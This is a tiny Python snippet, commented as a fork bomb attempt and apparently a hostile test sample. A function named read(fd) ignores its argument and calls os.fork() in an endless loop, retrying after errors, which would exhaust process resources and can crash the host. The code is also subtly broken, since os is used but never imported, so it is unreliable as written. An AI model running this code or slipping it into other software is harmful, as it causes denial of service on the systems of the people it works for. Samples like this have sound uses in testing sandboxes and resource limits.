# tries: a fork bomb
import time


def read(fd):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
